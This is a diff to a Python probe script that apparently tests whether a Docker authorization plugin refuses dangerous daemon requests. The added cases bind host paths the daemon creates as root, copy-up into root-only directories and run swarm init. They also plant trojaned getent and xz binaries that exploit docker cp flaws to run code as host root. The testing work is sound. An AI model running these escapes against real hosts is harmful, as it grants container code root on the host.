@@ -32,6 +32,16 @@ container (one JSON object per case: class, case, attempt, control, escaped):
               joining the namespaces of containers OUTSIDE the remapping that the caller made
               beforehand (--outside ID, --outside-stopped ID, optionally --pending-exec ID: made
               while the plugin was in audit mode); control: the same request on a remapped container
+    rootwork  the daemon's own root work on host paths: -v sources that do not exist, that a user
+              could replace, or that were removed before a start; CreateMountpoint; a bind of
+              Docker's data directory; copy-up into a volume binding an empty root-only directory
+              (made beforehand, and with the container) and into a volume a running container
+              writes; swarm init. Controls: the path with --mount, nocopy, an existing root path
+    engine    docker cp out of and into a container, an xz archive into a container whose image
+              ships an xz, docker cp -a into one that sets a user and ships a getent: "escaped" when
+              a program from the container's files ran as real root on the host (it can mknod).
+              Whether each is refused depends on the engine's known vulnerabilities and the fixes
+              recorded in the plugin's engine_fixes; each result names the engine's version
 
     python3 bypass_probe.py --image IMAGE --classes mounts,routes
     python3 bypass_probe.py --image IMAGE --classes existing --outside ID --outside-stopped ID
@@ -340,13 +350,221 @@ def probe_existing(sock_path: str, image: str, outside: str, outside_stopped: st
     return results
 
 
+# --- the daemon's own root work on host paths, and the engine's known vulnerabilities --------------
+
+
+def try_create_and_start(sock_path: str, image: str, host_config: dict, cmd=("true",)) -> tuple:
+    """(status of the create, or of the start when the create worked, message, container ID or "")."""
+    name = "due-probe-%s" % uuid.uuid4().hex[:10]
+    body = {"Image": image, "Cmd": list(cmd), "HostConfig": dict({"NetworkMode": "none"}, **host_config)}
+    status, message = request(sock_path, "POST", "/containers/create?name=%s" % name, json_body(body))
+    if status != 201:
+        return status, message, ""
+    container_id = json.loads(message)["Id"]
+    status, message = request(sock_path, "POST", "/containers/%s/start" % container_id)
+    return status, message, container_id
+
+
+def owned_by_root_untouched(path: str, mode: int) -> bool:
+    info = os.stat(path)
+    return info.st_uid == 0 and (info.st_mode & 0o7777) == mode and not os.listdir(path)
+
+
+def probe_rootwork(sock_path: str, image: str) -> list:
+    """Bind sources the daemon would create, copy-up into host directories and shared volumes,
+    Docker's data directory, swarm. Each attempt beside a control the plugin lets through."""
+    base = "/var/lib/due-probe-%s" % uuid.uuid4().hex[:8]
+    os.makedirs(base, mode=0o755)
+    results = []
+    made = []
+    volumes = []
+
+    def record(case, status, message, escaped, control=None):
+        results.append({"class": "rootwork", "case": case, "attempt": outcome(status, message),
+                        "control": None if control is None else outcome(*control), "escaped": escaped})
+
+    def control_of(host_config, create_only=False):
+        if create_only:
+            name = "due-probe-%s" % uuid.uuid4().hex[:10]
+            body = {"Image": image, "Cmd": ["true"], "HostConfig": dict({"NetworkMode": "none"}, **host_config)}
+            status, message = request(sock_path, "POST", "/containers/create?name=%s" % name, json_body(body))
+            made.extend([name] if status == 201 else [])
+            return status, message
+        status, message, container_id = try_create_and_start(sock_path, image, host_config)
+        if container_id:
+            made.append(container_id)
+        return status, message
+
+    try:
+        existing = os.path.join(base, "existing")
+        os.makedirs(existing)
+        missing = os.path.join(base, "missing", "system-generators")
+        status, message, container_id = try_create_and_start(sock_path, image, {"Binds": ["%s:/x" % missing]})
+        made += [container_id] if container_id else []
+        record("-v source that does not exist", status, message, os.path.exists(missing), control_of({"Binds": ["%s:/x" % existing]}))
+
+        created = os.path.join(base, "created", "sub")
+        mount = {"Type": "bind", "Source": created, "Target": "/x", "BindOptions": {"CreateMountpoint": True}}
+        status, message, container_id = try_create_and_start(sock_path, image, {"Mounts": [mount]})
+        made += [container_id] if container_id else []
+        record("--mount bind with CreateMountpoint, source missing", status, message, os.path.exists(created),
+               control_of({"Mounts": [dict(mount, Source=existing)]}))
+
+        vanishing = os.path.join(base, "vanishing")
+        os.makedirs(vanishing)
+        container_id = make_container(sock_path, image, {"Binds": ["%s:/x" % vanishing]}, cmd=("true",), start=False)
+        made.append(container_id)
+        os.rmdir(vanishing)
+        status, message = request(sock_path, "POST", "/containers/%s/start" % container_id)
+        record("start after the -v source was removed", status, message, os.path.exists(vanishing),
+               control_of({"Binds": ["%s:/x" % existing]}))
+
+        home = os.path.join(base, "home")
+        project = os.path.join(home, "project")
+        os.makedirs(project)
+        os.chown(home, 65534, 65534)
+        os.chown(project, 65534, 65534)
+        status, message, container_id = try_create_and_start(sock_path, image, {"Binds": ["%s:/x" % project]})
+        made += [container_id] if container_id else []
+        record("-v source that a user could remove or replace", status, message, succeeded(status),
+               control_of({"Mounts": [{"Type": "bind", "Source": project, "Target": "/x"}]}))
+
+        _status, info = request(sock_path, "GET", "/info")
+        data_root = json.loads(info).get("DockerRootDir", "/var/lib/docker")
+        status, message, container_id = try_create_and_start(sock_path, image, {"Binds": ["%s:/x:ro" % data_root]})
+        made += [container_id] if container_id else []
+        record("bind of Docker's data directory", status, message, succeeded(status))
+
+        for case, how in (("copy-up into a volume that binds an empty root-only directory", "beforehand"),
+                          ("copy-up into a volume made with the container, binding an empty root-only directory", "with")):
+            empty = os.path.join(base, "empty-%s" % how)
+            os.makedirs(empty, mode=0o700)
+            os.chmod(empty, 0o700)
+            options = {"type": "none", "o": "bind", "device": empty}
+            volume = "due-probe-bound-%s" % uuid.uuid4().hex[:8]
+            volumes.append(volume)
+            if how == "beforehand":
+                request(sock_path, "POST", "/volumes/create", json_body({"Name": volume, "Driver": "local", "DriverOpts": options}))
+                host_config = {"Binds": ["%s:/bin" % volume]}
+                nocopy = {"Binds": ["%s:/bin:nocopy" % volume]}
+            else:
+                mount = {"Type": "volume", "Source": volume, "Target": "/bin",
+                         "VolumeOptions": {"DriverConfig": {"Name": "local", "Options": options}}}
+                host_config = {"Mounts": [mount]}
+                nocopy = {"Mounts": [dict(mount, VolumeOptions=dict(mount["VolumeOptions"], NoCopy=True))]}
+            status, message, container_id = try_create_and_start(sock_path, image, host_config)
+            made += [container_id] if container_id else []
+            escaped = not owned_by_root_untouched(empty, 0o700)
+            control = control_of(nocopy, create_only=True)  # nocopy: the directory is left alone
+            record(case, status, message, escaped or not owned_by_root_untouched(empty, 0o700), control)
+
+        shared = "due-probe-shared-%s" % uuid.uuid4().hex[:8]
+        volumes.append(shared)
+        made.append(make_container(sock_path, image, {"Binds": ["%s:/data" % shared]}))  # a running writer
+        status, message, container_id = try_create_and_start(sock_path, image, {"Binds": ["%s:/bin" % shared]})
+        made += [container_id] if container_id else []
+        record("copy-up into a volume another running container writes", status, message, status in (201, 204),
+               control_of({"Binds": ["%s:/data:nocopy" % shared]}))
+
+        status, message = request(sock_path, "POST", "/swarm/init", json_body({"ListenAddr": "127.0.0.1:2377", "AdvertiseAddr": "127.0.0.1"}))
+        _status, info = request(sock_path, "GET", "/info")
+        joined = json.loads(info).get("Swarm", {}).get("LocalNodeState") == "active"
+        if joined:
+            request(sock_path, "POST", "/swarm/leave?force=1")
+        record("make this host a swarm node", status, message, joined)
+    finally:
+        for container_id in made:
+            remove(sock_path, container_id)
+        for volume in volumes:
+            request(sock_path, "DELETE", "/volumes/%s" % volume)
+        shutil.rmtree(base, ignore_errors=True)
+    return results
+
+
+PROOF = "/due-probe-proof"
+# Run by the daemon from the container's files, it proves where it ran: only real root in the
+# host's user namespace can make a device node.
+PROVING_SCRIPT = "#!/bin/sh\nmknod %s-$(basename $0) c 1 3 2>/dev/null\nexec /bin/busybox $(basename $0) \"$@\"\n" % PROOF
+
+
+def proving_image(sock_path: str, image: str) -> str:
+    """The image plus an xz and a getent that prove it when the daemon runs them (docker commit)."""
+    container_id = make_container(sock_path, image)
+    try:
+        for program in ("getent", "xz", "unpigz"):
+            script = PROVING_SCRIPT.replace("'", "'\\''")
+            command = "mkdir -p /usr/bin && printf '%%s' '%s' > /usr/bin/%s && chmod 755 /usr/bin/%s" % (script, program, program)
+            status, message = request(sock_path, "POST", "/containers/%s/exec" % container_id, json_body({"Cmd": ["sh", "-c", command]}))
+            exec_id = json.loads(message)["Id"]
+            request(sock_path, "POST", "/exec/%s/start" % exec_id, json_body({"Detach": False}))
+        name = "due-probe-proving-%s" % uuid.uuid4().hex[:8]
+        status, message = request(sock_path, "POST", "/commit?container=%s&repo=%s&tag=latest" % (container_id, name), json_body({}))
+        if status != 201:
+            raise RuntimeError("docker commit failed: %d %s" % (status, message))
+        return name + ":latest"
+    finally:
+        remove(sock_path, container_id)
+
+
+def proven(sock_path: str, container_id: str) -> bool:
+    """Whether a program of the container's ran as real root on the host (its device node is there)."""
+    status, message = request(sock_path, "POST", "/containers/%s/exec" % container_id,
+                              json_body({"Cmd": ["sh", "-c", "ls %s-* 2>/dev/null" % PROOF], "AttachStdout": True}))
+    if status != 201:
+        return False
+    exec_id = json.loads(message)["Id"]
+    _status, output = request(sock_path, "POST", "/exec/%s/start" % exec_id, json_body({"Detach": False}))
+    return PROOF in output
+
+
+def xz_tar() -> bytes:
+    import lzma
+    return lzma.compress(tar_of("due-probe-written", b"x"), format=lzma.FORMAT_XZ)
+
+
+def probe_engine(sock_path: str, image: str) -> list:
+    """docker cp as this engine's known vulnerabilities make it dangerous: out of and into a plain
+    container, an xz archive into a container whose image ships an xz, docker cp -a into one that
+    sets a user and ships a getent. Escaped: one of the container's programs ran as real root."""
+    _status, version = request(sock_path, "GET", "/version")
+    results = []
+    proving = proving_image(sock_path, image)
+    made = []
+    try:
+        plain = make_container(sock_path, proving)
+        made.append(plain)
+        body = {"Image": proving, "Cmd": ["sleep", "600"], "User": "1000:1000", "HostConfig": {"NetworkMode": "none"}}
+        status, message = request(sock_path, "POST", "/containers/create", json_body(body))
+        as_user = json.loads(message)["Id"]
+        made.append(as_user)
+        request(sock_path, "POST", "/containers/%s/start" % as_user)
+        cases = [
+            ("docker cp out of a container", "GET", "/containers/%s/archive?path=/etc" % plain, None, "application/json", plain),
+            ("docker cp into a container", "PUT", "/containers/%s/archive?path=/tmp" % plain, tar_of("due-probe-written", b"x"), "application/x-tar", plain),
+            ("docker cp of an xz archive into a container whose image ships an xz", "PUT", "/containers/%s/archive?path=/tmp" % plain,
+             xz_tar(), "application/x-tar", plain),
+            ("docker cp -a into a container that sets a user and ships a getent", "PUT",
+             "/containers/%s/archive?path=/tmp&copyUIDGID=1" % as_user, tar_of("due-probe-written", b"x"), "application/x-tar", as_user),
+        ]
+        for case, method, path, body, content_type, target in cases:
+            status, message = request(sock_path, method, path, body, content_type)
+            results.append({"class": "engine", "case": case, "engine": json.loads(version).get("Version", ""),
+                            "attempt": outcome(status, message if not succeeded(status) else message[:80]), "control": None,
+                            "escaped": proven(sock_path, target)})
+    finally:
+        for container_id in made:
+            remove(sock_path, container_id)
+        request(sock_path, "DELETE", "/images/%s?force=1" % proving)
+    return results
+
+
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("--socket", default="/var/run/docker.sock")
     parser.add_argument("--image", required=True)
     parser.add_argument("--generated", type=int, default=0, help="send this many generated bodies instead")
     parser.add_argument("--seed", type=int, default=1)
-    parser.add_argument("--classes", help="comma-separated: mounts, routes, existing (instead of the create bodies)")
+    parser.add_argument("--classes", help="comma-separated: mounts, routes, existing, rootwork, engine (instead of the create bodies)")
     parser.add_argument("--outside", help="ID of a running container outside the remapping (class existing)")
     parser.add_argument("--outside-stopped", help="ID of a stopped container outside the remapping (class existing)")
     parser.add_argument("--pending-exec", default="", help="ID of an exec created in --outside, never started")
@@ -360,6 +578,10 @@ def main() -> int:
                 results += probe_mounts(args.socket, args.image)
             elif name == "routes":
                 results += probe_routes(args.socket, args.image)
+            elif name == "rootwork":
+                results += probe_rootwork(args.socket, args.image)
+            elif name == "engine":
+                results += probe_engine(args.socket, args.image)
             elif name == "existing":
                 if not args.outside or not args.outside_stopped:
                     parser.error("class existing needs --outside and --outside-stopped")
